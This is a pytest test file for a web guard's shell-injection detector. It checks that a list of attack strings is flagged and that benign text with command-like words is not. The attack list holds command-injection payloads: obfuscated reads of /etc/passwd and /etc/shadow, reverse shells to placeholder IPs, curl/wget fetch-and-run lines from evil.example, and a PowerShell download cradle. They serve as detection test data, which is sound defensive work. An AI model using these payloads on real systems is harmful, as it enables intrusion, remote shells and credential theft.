from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.guard.inspector.sinks.scoring import QUERY, growth, read_though_ordinary, score

from shangdun_guard.inspector.sink import Slot
from shangdun_guard.inspector.sinks.shell import SINK

ATTACKS = [
    ";id",
    "127.0.0.1;id",
    "127.0.0.1|whoami",
    "127.0.0.1 && cat /etc/passwd",
    "8.8.8.8; cat /etc/passwd #",
    "file.txt;ls -la",
    "a|uname -a",
    "x`id`",
    "$(id)",
    "$(cat /etc/passwd)",
    "foo$(sleep 5)bar",
    "`sleep 10`",
    "';sleep 5;'",
    '";sleep 5;"',
    '"|sleep 5|"',
    "1;sleep${IFS}5",
    ";cat$IFS/etc/passwd",
    ";cat${IFS}$9/etc/passwd",
    ";{cat,/etc/passwd}",
    ";c''at /etc/passwd",
    ';c"a"t /etc/passwd',
    ";c\\at /etc/passwd",
    ";ca$@t /etc/passwd",
    ";who$()ami",
    ";who``ami",
    ";/???/c?t /???/p??s??",
    "|/b*n/c*t /etc/passwd",
    ";/bin/c[a-z]t /etc/hosts",
    ";$'\\x63\\x61\\x74' /etc/passwd",
    ";$'\\143\\141\\164' /etc/passwd",
    ";cat ${HOME:0:1}etc${HOME:0:1}passwd",
    ";a=cat;$a /etc/passwd",
    ";cat</etc/passwd",
    ";echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh",
    "|echo aWQ= | base64 --decode | bash",
    "; bash -i 0<&5 1>&5 5<>/dev/tcp/192.0.2.77/8443",
    "| nc -e /bin/sh 10.0.0.1 4444",
    ";mkfifo /dev/shm/q; sh -i </dev/shm/q 2>&1 | nc 192.0.2.77 8443 >/dev/shm/q",
    ";wget http://evil.example/x.sh -O /tmp/x.sh",
    "&& curl http://evil.example/x.sh | sh",
    ";curl evil.example",
    "|nslookup abc.oast.example.com",
    "& ping -n 10 127.0.0.1 &",
    "| ping -c 5 127.0.0.1",
    "||ping -c 3 127.0.0.1||",
    "x\nid -u",
    "1.1.1.1\ncat /etc/passwd",
    "1%0a".replace("%0a", "\n") + "/usr/bin/id",
    "& dir c:\\",
    "& type c:\\windows\\win.ini",
    "| net user",
    "&whoami",
    "|w^h^o^a^m^i",
    "& %COMSPEC% /c dir",
    "; powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    "powershell IEX (New-Object Net.WebClient).DownloadString('http://e.example/a.ps1')",
    "test;echo $((41+1))",
    "; python3 -c 'import os;os.system(\"id\")'",
    ";perl -e 'print 1'",
    ";php -r 'phpinfo();'",
    "; echo hacked > /var/www/html/x.php",
    ";sudo cat /etc/shadow",
    "cat /etc/passwd",
    "/usr/bin/id",
    "ping -c 4 127.0.0.1",
    "wget http://evil.example/a.sh",
    "a);id;",
    "id|",
    "foo;env;",
    "127.0.0.1\nid",
    ";env;",
    "&set&",
    "|env",
    '<!--#exec cmd="/bin/ls"-->',
    "; tftp -g -r x 10.0.0.9",
    "$(curl${IFS}http://e.example/`whoami`)",
    ";+cat+/etc/passwd",
    "a.jpg;touch /tmp/pwned;",
    "'$(touch /tmp/x)'",
    "{{1}};hostname",
    ";systeminfo",
    "|ifconfig",
    "name=foo;wget -q -O- http://1.2.3.4/bins.sh",
    ";busybox wget http://1.2.3.4/arm7; chmod 777 arm7",
    "; chmod 777 /tmp/x; /tmp/x",
]

HONEST = [
    "Tom & Jerry; cat toys",
    "R&D",
    "a; b; c",
    "c++ | java",
    "Black & Decker drill",
    "ping me at 5pm; find the best price",
    "call me; more details below",
    "name;id;email",
    "id|title|price",
    "(?:name|id)$",
    "^(foo|ls|bar)$",
    "sort=name|id",
    "cat food & dog food",
    "Tom & id",
    "dogs | cats | more",
    "run `npm install` and then `npm run build`, please",
    "The `id` field is missing in the answer",
    "Set the flag to `true` before the call",
    "Use `ls -la` to look at the folder, then tell us what you can see in it",
    "$(document).ready(function(){ $('#id').hide(); })",
    "$(id).hide()",
    "var x = a || find(b); return sort(x);",
    "if (a && b) { more(); } else { less(); }",
    "<?php echo $foo; print(date('Y')); ?>",
    "price $5; sleep mask; head band",
    "10% off; type A; size M",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0",
    "Mozilla/5.0 (compatible; curl/7.81; +http://example.com/bot)",
    "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8",
    "session=abc; id=5; csrftoken=x; path=/",
    "http://shop.example/list?a=1&id&sort=price&find=x",
    "a=1&amp;id=2&amp;ls=3",
    "&lt;b&gt;type&lt;/b&gt;",
    "C:\\Users\\me\\Documents\\id.txt",
    "See C:\\Program Files\\App; type of error: 5",
    "color:red;cursor:move;top:0",
    '{"a":"x|y","re":"^(cat|tail)$"}',
    "sleep 8 hours; wake up",
    "we sell: sort of rare books; cut flowers; tail lights",
    "| Name | id | Price |",
    "Sunglasses | Men | Black | less than $50",
    "I tried; kill the lights & more",
    "M&M's; chips & dip; head & shoulders",
    "H&M | date night | time to shine",
    "node; python; ruby; perl; php",
    "bash & python developer; sh scripts",
    "more; less; fewer",
    "rock & roll; cut & paste; find & replace",
    "Dear team; please find attached the file; sort it by date; thanks",
    "echo & the bunnymen",
    "x <- sort(y); z <- tail(y)",
    "SELECT id; SELECT name",
    "exit; through the gift shop",
    "a\nb\nmore\nid\n",
    "12 Main St\nid 4457\nSpringfield",
    "cat\ndog\ntail\nhead",
    "time & date; set & get",
    "¥100; 尺码 M | 颜色 红",
    "你好；我想找 cat 图案的杯子 | 谢谢",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_command_that_would_run_convicts(text: str) -> None:
    assert score(SINK, text) >= 0


@pytest.mark.parametrize("text", HONEST)
def test_words_that_are_also_commands_do_not(text: str) -> None:
    assert score(SINK, text) <= -1.5


TICKET = """Hello, since the last update our import fails. What I did:

1. logged in to the server and ran `cat /etc/os-release && uname -a`
2. started it again with

    sudo systemctl restart importer; tail -f /var/log/importer.log

3. then I saw the same message as before, see the attached picture. Could you please
have a look and tell me what is wrong with it? Thank you very much, Anna
"""


def test_commands_in_a_ticket_stay_below() -> None:
    assert score(SINK, TICKET, Slot("form", "message")) < -1


def test_an_opening_separator_gets_no_credit_for_the_prose_behind_it() -> None:
    padded = "; cat /etc/passwd # " + "we would like to know more about it please " * 4
    assert score(SINK, padded) >= 0


@pytest.mark.parametrize(
    "unit",
    [";", "`", "$(", ";a", "$IFS", "'", "\\a", "{a,", "; cat ", "/???", "| nc -e ", "${PATH:",
     "x=1;$x", "curl a", "\n ls", "&#", "mkfifo ", "$'\\x41'", "*/", "powershell -e ", ";/*/*/*?"],
)  # fmt: skip
def test_time_is_linear(unit: str) -> None:
    assert growth(SINK, unit) < 9


def test_ordinary_values_pass_at_a_glance() -> None:
    assert read_though_ordinary(SINK) == ["/catalogue/the-cat-in-the-hat_33/"]


@given(st.one_of(st.text(), st.text(alphabet="; |&`$(){}'\"\\/?*idcat<>\n^%IFS=#-")))
def test_it_never_raises_and_its_places_lie_inside(text: str) -> None:
    score(SINK, text, QUERY)
